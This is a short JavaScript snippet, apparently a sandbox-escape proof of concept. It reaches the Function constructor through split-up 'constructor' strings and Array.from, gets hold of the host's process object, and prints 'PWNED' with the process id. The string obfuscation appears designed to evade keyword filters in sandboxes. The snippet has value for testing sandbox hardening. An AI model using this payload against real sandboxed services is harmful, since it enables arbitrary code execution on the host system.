'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
let got;
const t = [];
t[w][['fr', 'om'].join('')]([fn], (f) => { got = f[w]; });
console.log('PWNED', got('return process')().pid);
